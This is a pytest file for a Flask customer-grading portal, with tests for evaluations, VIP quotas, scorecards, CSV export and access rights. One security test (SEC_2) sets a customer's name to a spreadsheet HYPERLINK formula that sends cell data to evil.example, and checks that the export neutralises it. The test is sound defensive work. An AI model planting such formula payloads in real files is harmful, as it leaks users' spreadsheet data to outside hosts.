"""Issue 4 through the Flask client and the API: evaluation, grade changes, quotas, history, CSV, rights."""

import copy
import csv
import io
import json
import re

from portal.adapters.tables import Product, Standing
from portal.domain.grading import DEFAULT_SCORECARD
from tests.conftest import api_token, bearer, csrf_token, sign_in
from tests.factories import admitted, applied

NO_EVAL = {"no_evaluation_reason": "测试准备：不经评价直接调整"}  # GRD-6: promoted without an evaluation

GOOD = {"scale": "三级甲等", "annual_volume": 800, "payment": "按时回款，无逾期", "reputation": "信誉良好，无违规",
        "loyalty_years": 5, "qualification": "齐全有效"}
WHY = {"loyalty_years": "合作始于本系统上线之前"}  # issue 18 item 3: 5 years is an override of the computed 0




def test_api_evaluate_then_promote_with_quota_409_and_places_left(client):
    customers = admitted("ortho", 7)  # 7 customers: 1 VIP place (QTA-1)
    leader = api_token(client, "ortho.leader@demo.local")
    rep = api_token(client, "ortho.rep@demo.local")
    evaluation = client.post(f"/api/v1/departments/ortho/customers/{customers[0]}/evaluations", headers=bearer(rep),
                             json={"values": GOOD, "hard": {"late_payment": False}, "reasons": WHY})
    assert evaluation.status_code == 201
    e = evaluation.get_json()
    assert (e["total"], e["proposed"], e["points"]["annual_volume"]) == (100, "VIP", 30)
    by_rep = client.post(f"/api/v1/departments/ortho/customers/{customers[0]}/grade", headers=bearer(rep),
                         json={"grade": "VIP", **NO_EVAL, "reason": "评分优秀"})
    assert by_rep.status_code == 403
    ok = client.post(f"/api/v1/departments/ortho/customers/{customers[0]}/grade", headers=bearer(leader),
                     json={"grade": "VIP", "reason": "评分优秀", "evaluation_id": e["id"]})
    assert ok.status_code == 200 and ok.get_json()["evaluation"] == e["id"]
    full = client.post(f"/api/v1/departments/ortho/customers/{customers[1]}/grade", headers=bearer(leader),
                       json={"grade": "VIP", **NO_EVAL, "reason": "也很优秀"})
    assert full.status_code == 409
    assert "0" in full.get_json()["error"]["message"] and "grade" in full.get_json()["error"]["fields"]
    quota = client.get("/api/v1/departments/ortho/quota", headers=bearer(rep)).get_json()
    assert (quota["total"], quota["vip"], quota["max_vip"], quota["vip_places_left"]) == (7, 1, 1, 0)
    assert quota["max_preferred"] == 2


def test_api_bad_grade_and_bad_evaluation_inputs(client):
    [customer] = admitted("ortho", 1)
    leader = api_token(client, "ortho.leader@demo.local")
    bad = client.post(f"/api/v1/departments/ortho/customers/{customer}/grade", headers=bearer(leader),
                      json={"grade": "GOLD", "reason": "x"})
    assert bad.status_code == 422 and "grade" in bad.get_json()["error"]["fields"]
    negative = client.post(f"/api/v1/departments/ortho/customers/{customer}/evaluations", headers=bearer(leader),
                           json={"values": {**GOOD, "annual_volume": -3}})
    assert negative.status_code == 422 and "v_annual_volume" in negative.get_json()["error"]["fields"]
    nowhere = client.post("/api/v1/departments/ortho/customers/not-admitted/grade", headers=bearer(leader),
                          json={"grade": "VIP", **NO_EVAL, "reason": "x"})
    assert nowhere.status_code == 404


def test_ortho_leader_grading_in_rehab_is_403(client):
    [customer] = admitted("rehab", 1, products=("walker",))
    leader = api_token(client, "ortho.leader@demo.local")
    response = client.post(f"/api/v1/departments/rehab/customers/{customer}/grade", headers=bearer(leader),
                           json={"grade": "PREFERRED", **NO_EVAL, "reason": "x"})
    assert response.status_code == 403
    assert Standing.get("rehab", customer).grade == "QUALIFIED"


def test_scorecard_api_weights_gaps_and_stale_edits(client):
    md = api_token(client, "md.admin@demo.local")
    card = client.get("/api/v1/scorecards/company/default", headers=bearer(md)).get_json()
    assert card["version"] == 0 and len(card["definition"]["indicators"]) == 6
    bad = copy.deepcopy(DEFAULT_SCORECARD)
    bad["indicators"][2]["weight"] = 10
    response = client.put("/api/v1/scorecards/company/default", headers=bearer(md), json={"definition": bad,
                                                                                          "version": 0})
    assert response.status_code == 422 and "90" in response.get_json()["error"]["fields"]["definition"][0]
    gap = copy.deepcopy(DEFAULT_SCORECARD)
    gap["indicators"][4]["bands"][1]["low"] = 2
    response = client.put("/api/v1/scorecards/company/default", headers=bearer(md), json={"definition": gap,
                                                                                          "version": 0})
    assert response.status_code == 422 and "空档" in response.get_json()["error"]["fields"]["definition"][0]
    ok = client.put("/api/v1/scorecards/company/default", headers=bearer(md), json={"definition": DEFAULT_SCORECARD,
                                                                                   "version": 0})
    assert ok.status_code == 200 and ok.get_json()["version"] == 1
    stale = client.put("/api/v1/scorecards/company/default", headers=bearer(md),
                       json={"definition": DEFAULT_SCORECARD, "version": 0})
    assert stale.status_code == 409
    assert client.get("/api/v1/scorecards/company/default", headers=bearer(md)).get_json()["version"] == 1


def test_grade_page_proposal_then_leader_accepts_and_history_shows_it(app):
    customers = admitted("ortho", 10)
    rep, leader = app.test_client(), app.test_client()
    sign_in(rep, "ortho.rep@demo.local")
    sign_in(leader, "ortho.leader@demo.local")
    path = f"/staff/departments/ortho/customers/{customers[0]}"
    token = csrf_token(rep, path)
    response = rep.post(f"{path}/grade", data={"csrf_token": token, "grade": "PREFERRED",
                                               "reason": "回款及时，合作三年"})
    assert response.status_code == 302
    page = leader.get(path).get_data(as_text=True)
    assert "回款及时，合作三年" in page
    proposal_id = re.search(r'name="proposal_id" value="([^"]+)"', page).group(1)
    token = csrf_token(leader, path)
    accepted = leader.post(f"{path}/grade", data={"csrf_token": token, "grade": "PREFERRED", **NO_EVAL,
                                                  "reason": "同意提议", "proposal_id": proposal_id})
    assert accepted.status_code == 302
    assert Standing.get("ortho", customers[0]).grade == "PREFERRED"
    history = leader.get(f"/staff/customers/{customers[0]}/grades").get_data(as_text=True)
    assert "同意提议" in history and "李强" in history  # the leader by name (issue 17 item 2), no longer by e-mail
    assert 'name="proposal_id" value="' + proposal_id not in leader.get(path).get_data(as_text=True)


def test_quota_full_message_sits_next_to_the_grade_field(app):
    customers = admitted("ortho", 6)  # 6 customers: no VIP place at all
    leader = app.test_client()
    sign_in(leader, "ortho.leader@demo.local")
    path = f"/staff/departments/ortho/customers/{customers[0]}"
    token = csrf_token(leader, path)
    page = leader.post(f"{path}/grade", data={"csrf_token": token, "grade": "VIP", **NO_EVAL, "reason": "x"}).get_data(
        as_text=True)
    assert re.search(r'id="grade-error">[^<]*0', page)
    assert Standing.get("ortho", customers[0]).grade == "QUALIFIED"


def test_evaluate_page_computes_points_and_proposes(app):
    [customer] = admitted("ortho", 1)
    clerk = app.test_client()
    sign_in(clerk, "ortho.clerk@demo.local")
    path = f"/staff/departments/ortho/customers/{customer}/evaluate"
    token = csrf_token(clerk, path)
    form = {f"v_{k}": v for k, v in {**GOOD, "annual_volume": 120, "scale": "二级甲等"}.items()}
    bad = clerk.post(path, data={**form, "v_annual_volume": "-1", "csrf_token": token}).get_data(as_text=True)
    assert re.search(r'id="v_annual_volume-error">', bad)
    done = clerk.post(path, data={**form, "hard_late_payment": "y", "why_loyalty_years": WHY["loyalty_years"],
                                  "csrf_token": token})
    assert done.status_code == 302
    page = clerk.get(f"/staff/departments/ortho/customers/{customer}").get_data(as_text=True)
    assert 'id="latest-total">79<' in page and "优选" in page


def test_department_list_filters_by_grade_and_exports_csv(app):
    customers = admitted("ortho", 20)
    leader = api_token(app.test_client(), "ortho.leader@demo.local")
    client = app.test_client()
    client.post(f"/api/v1/departments/ortho/customers/{customers[3]}/grade", headers=bearer(leader),
                json={"grade": "VIP", **NO_EVAL, "reason": "优秀"})
    sign_in(client, "ortho.clerk@demo.local")
    page = client.get("/staff/departments/ortho/customers?grade=VIP").get_data(as_text=True)
    assert page.count('class="grade grade-vip"') == 1
    assert re.search(r'class="quota-fill vip" width="33\.3"', page)  # 1 of 3 VIP places: the chart's bar
    exported = export_through_the_job(client, "ortho")  # issue 12 item 4: a job now writes the CSV
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == 20 and sum(r["grade"] == "VIP" for r in rows) == 1
    assert {r["priority_rank"] for r in rows} == {"1", "3"}
    vip_only = export_through_the_job(client, "ortho", "VIP")
    assert len(list(csv.DictReader(io.StringIO(vip_only)))) == 1


def export_through_the_job(client, dept: str, grade: str = "") -> str:
    """Ask for the CSV on the customers page, run the export job, download the file (BOM dropped)."""
    from functions import write_exports
    from tests.web.test_exports_web import download

    token = csrf_token(client, f"/staff/departments/{dept}/customers")
    assert client.post(f"/staff/departments/{dept}/exports", data={"csrf_token": token, "grade": grade}).status_code \
        == 302
    [export_id] = write_exports.run({})["ready"]
    return download(client, export_id)


def test_SEC_2_a_customer_named_like_a_formula_is_exported_as_text(app):
    from tests.factories import register, stand

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    customer, _ctx = register(name=hostile)
    stand(customer, "ortho")
    client = app.test_client()
    sign_in(client, "ortho.clerk@demo.local")
    text = export_through_the_job(client, "ortho")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + hostile and row["customer_id"] == customer.customer_id


def test_RGT_2_customer_dashboard_shows_tier_and_priorities_and_the_api_rank(app):
    customer, ctx, app_ = applied(email="tier@kangjian.cn")
    from portal.services import applications, org
    from tests.integration.test_admission import review_to_admission, staff

    app_ = review_to_admission(app_)
    applications.decide(staff("ortho.leader@demo.local"), app_.app_id, True, "同意", app_.version)
    product = Product.get("ortho", "bone-plate")  # changed through its service, which keeps the catalogue's copy
    org.update_product(staff("ortho.leader@demo.local"), "ortho", "bone-plate", name_zh=product.name_zh,
                       name_en=product.name_en, active=product.active, version=product.version,
                       discounts={"QUALIFIED": 3, "VIP": 12})
    client = app.test_client()
    sign_in(client, "tier@kangjian.cn")
    page = client.get("/customer/").get_data(as_text=True)
    assert re.search(r":\s*您的价格：目录价优惠 3%</li>", page)  # RGT-1 a: the 合格 tier, not VIP's 12%
    assert "优惠 12%" not in page
    assert "四优先" in page
    token = api_token(app.test_client(), "tier@kangjian.cn")
    ranks = client.get(f"/api/v1/customers/{customer.customer_id}/priorities", headers=bearer(token)).get_json()
    assert ranks["items"] == [{"department": "ortho", "grade": "QUALIFIED", "priority_rank": 3}]


def test_leader_sets_price_tiers_on_the_product_page(app):
    leader = app.test_client()
    sign_in(leader, "ortho.leader@demo.local")
    path = "/staff/departments/ortho/products/bone-plate"
    token = csrf_token(leader, path)
    response = leader.post(path, data={"csrf_token": token, "name_zh": "锁定加压接骨板", "name_en": "Plate",
                                       "active": "y", "version": "1", "vip_discount": "15", "preferred_discount": "8",
                                       "qualified_discount": ""})
    assert response.status_code == 302
    assert Product.get("ortho", "bone-plate").discounts.as_dict() == {"VIP": 15, "PREFERRED": 8}
    bad = leader.post(path, data={"csrf_token": token, "name_zh": "x", "name_en": "x", "version": "2",
                                  "vip_discount": "150"}).get_data(as_text=True)
    assert re.search(r'id="vip_discount-error">', bad)


def test_scorecard_page_shows_the_table_and_refuses_a_clerks_edit(app):
    clerk = app.test_client()
    sign_in(clerk, "ortho.clerk@demo.local")
    page = clerk.get("/staff/scorecards/ortho/default").get_data(as_text=True)
    assert "年度业务量" in page and 'id="definition"' not in page
    token = csrf_token(clerk, "/staff/")
    assert clerk.post("/staff/scorecards/ortho/default", data={"csrf_token": token,
                                                               "definition": json.dumps(DEFAULT_SCORECARD)}
                      ).status_code == 403
